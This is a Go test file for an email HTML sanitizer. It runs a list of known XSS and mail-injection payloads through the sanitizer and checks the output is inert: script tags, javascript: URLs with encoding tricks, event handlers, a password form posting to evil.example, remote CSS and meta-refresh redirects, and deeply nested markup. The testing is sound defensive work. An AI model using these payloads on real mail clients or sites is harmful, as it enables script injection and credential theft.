package mail

import (
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	nethtml "golang.org/x/net/html"
)

// hostile are ways to make a mail act that have worked somewhere once.
func hostile() []string {
	return []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`, `<img src="x" onerror = 'alert(1)'>`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
		`<img src="javascript:alert(1)">`, `<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`,
		`<a href="java&#x09;script:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`,
		`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="//evil.example">x</a>`,
		`<a href="/signout">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="blob:https://x">x</a>`,
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)">x</a></svg>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
		`<form action=https://evil.example><input name=password><button>Go</button></form>`, `<iframe src="https://evil.example"></iframe>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="x.swf"></object>`, `<embed src="x.swf">`, `<applet code=x></applet>`,
		`<style>body{background:url(https://evil.example)}</style>`, `<p style="background:url(https://evil.example)">x</p>`,
		`<link rel=stylesheet href=https://evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
		`<base href="https://evil.example/">`, `<body background="https://evil.example/x.png" onload=alert(1)>x</body>`,
		`<table background="https://evil.example/x.png"><tr><td background=x>y</td></tr></table>`, `<div class="modal">x</div>`, `<div id="main">x</div>`,
		`<video src=x onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<source srcset=x>`, `<img srcset="https://evil.example/x 2x">`,
		`<picture><source srcset="https://evil.example/x"><img src=x></picture>`, `<input type=image src=x onerror=alert(1)>`,
		`<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`, `<isindex action=javascript:alert(1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<textarea><img src=x onerror=alert(1)></textarea>`,
		`<title><img src=x onerror=alert(1)></title>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<plaintext><img src=x onerror=alert(1)>`,
		`<!--<img src="--><img src=x onerror=alert(1)//">`, `<!--[if IE]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`,
		`<?xml version="1.0"?><script>alert(1)</script>`, `<a href="https://ok.example" onclick="alert(1)" target=_self rel=opener>x</a>`,
		`</div></div></main><p>out</p>`, `<a href="https://ok.example"><a href="https://two.example">x</a>`, `<template><script>alert(1)</script></template>`,
		`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<img src=cid:x"onerror="alert(1)>`, `<img alt='"><script>alert(1)</script>' src=x>`,
		`<a href='https://ok.example/"onmouseover="alert(1)'>x</a>`, "<a href=\"java\x00script:alert(1)\">x</a>", "<\x00script>alert(1)</script>",
		`<select><option><script>alert(1)</script></select>`, `<p/onclick=alert(1)>x`, `<x onclick=alert(1)>x</x>`, "<img\x0csrc=x\x0conerror=alert(1)>",
		strings.Repeat("<div>", 5000), strings.Repeat("<a href=https://x.example>", 500), strings.Repeat("<blockquote><table>", 400) + "x",
		`<base target="_top"><a href=https://ok.example>x</a>`, `<p contenteditable autofocus onfocus=alert(1)>x</p>`, `<dialog open>x</dialog>`,
		`<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `<iframe/src="data:text/html,x">`, `<style><!--</style><script>alert(1)//--></script>`,
	}
}

var (
	allowedTag  = regexp.MustCompile(`^(p|br|div|span|b|strong|i|em|u|s|del|ins|sub|sup|small|big|ul|ol|li|dl|dt|dd|blockquote|pre|code|tt|hr|h[1-6]|table|caption|thead|tbody|tfoot|tr|td|th|center|address|cite|q|abbr|a|img)$`)
	allowedAttr = regexp.MustCompile(`^(href|rel|target|colspan|rowspan|start|dir|src|alt)$`)
)

// inert fails unless the markup holds only what is allowed, balanced.
func inert(t *testing.T, in, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("SafeHTML(%.200q): invalid UTF-8", in)
	}
	var open []string
	z := nethtml.NewTokenizer(strings.NewReader(out))
	for {
		kind := z.Next()
		if kind == nethtml.ErrorToken {
			break
		}
		tok := z.Token()
		switch kind {
		case nethtml.CommentToken, nethtml.DoctypeToken:
			t.Errorf("SafeHTML(%.200q) = %.300q, want no comment", in, out)
		case nethtml.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != tok.Data {
				t.Fatalf("SafeHTML(%.200q) = %.300q, want balanced tags; stray </%s>", in, out, tok.Data)
			}
			open = open[:len(open)-1]
		case nethtml.StartTagToken, nethtml.SelfClosingTagToken:
			if !allowedTag.MatchString(tok.Data) {
				t.Errorf("SafeHTML(%.200q) = %.300q, want no <%s>", in, out, tok.Data)
			}
			for _, a := range tok.Attr {
				bad := !allowedAttr.MatchString(a.Key) || a.Key == "src" && !strings.HasPrefix(a.Val, "/inline/") || a.Key == "href" && !outward(a.Val)
				if bad {
					t.Errorf("SafeHTML(%.200q) = %.300q, want no %s=%q", in, out, a.Key, a.Val)
				}
			}
			if tok.Data != "br" && tok.Data != "hr" && tok.Data != "img" {
				open = append(open, tok.Data)
			}
		}
	}
	if len(open) > 0 {
		t.Errorf("SafeHTML(%.200q) = %.300q, want %v closed", in, out, open)
	}
}

func inline(id string) (string, bool) { return "/inline/" + "1", id != "missing" }

func TestHostileMailIsInert(t *testing.T) {
	t.Parallel()
	for _, in := range hostile() {
		inert(t, in, SafeHTML(in, View{Inline: inline}))
		inert(t, in+in, SafeHTML("<table><tr><td>"+in+in, View{}))
	}
}

func TestSafeHTMLKeepsWhatPeopleWrote(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ in, want string }{
		"paragraphs and stress": {`<p class=x style="color:red">Dear <b>Ana</b>,</p>`, `<p>Dear <b>Ana</b>,</p>`},
		"a link leaves safely":  {`<a href="https://court.example/a?b=1&amp;c=2">docket</a>`, `<a href="https://court.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">docket</a>`},
		"a remote picture":      {`<img src="https://track.example/p.gif" alt="Logo">`, `<em>[image: Logo]</em>`},
		"a counting pixel":      {`a<img src="https://track.example/p.gif" width="1" height="1">b`, `ab`},
		"a picture in the mail": {`<img src="cid:logo@x" alt="Logo">`, `<img src="/inline/1" alt="Logo">`},
		"a picture that is not": {`<img src="cid:missing">`, `<em>[image]</em>`},
		"a table":               {`<table width=600><tr><td colspan=2 bgcolor=red>x</td></tr></table>`, `<table><tr><td colspan="2">x</td></tr></table>`},
		"an unclosed list":      {`<ul><li>one<li>two`, `<ul><li>one<li>two</li></li></ul>`},
		"less-than in text":     {`5 &lt; 6 &amp; "so"`, `5 &lt; 6 &amp; &#34;so&#34;`},
	} {
		if got := SafeHTML(c.in, View{Inline: inline}); got != c.want {
			t.Errorf("%s: SafeHTML(%q)\n got  %q\n want %q", name, c.in, got, c.want)
		}
	}
}

func TestTextReadsLikeALetter(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ in, want string }{
		"paragraphs":  {`<p>Dear Ana,</p><p>The hearing<br>is on Monday.</p>`, "Dear Ana,\n\nThe hearing\nis on Monday."},
		"a list":      {`<ul><li>passport</li><li>lease</li></ul>`, "- passport\n- lease"},
		"a table":     {`<table><tr><td>Fee</td><td>$300</td></tr><tr><td>Cost</td><td>$20</td></tr></table>`, "Fee  $300\nCost  $20"},
		"a quotation": {`Yes.<div>On Mon, Kim wrote:<blockquote>Is it <b>done</b>?<br>Kim</blockquote></div>`, "Yes.\nOn Mon, Kim wrote:\n> Is it done?\n> Kim"},
		"a link":      {`<a href="https://court.example/x">docket</a> and <a href="https://a.example/">a.example</a>`, "docket <https://court.example/x> and a.example"},
		"no style":    {`<style>p{}</style><script>x()</script><title>t</title>Hello&nbsp;&amp; bye`, "Hello & bye"},
		"pre":         {"<pre>a  b\n  c</pre>d", "a  b\n  c\nd"},
	} {
		if got := Text(c.in); got != c.want {
			t.Errorf("%s: Text(%q)\n got  %q\n want %q", name, c.in, got, c.want)
		}
	}
}

func FuzzSafeHTML(f *testing.F) {
	for _, s := range hostile() {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		inert(t, in, SafeHTML(in, View{Inline: inline}))
		if s := Text(in); !utf8.ValidString(s) {
			t.Errorf("Text(%q) is not valid UTF-8", in)
		}
	})
}
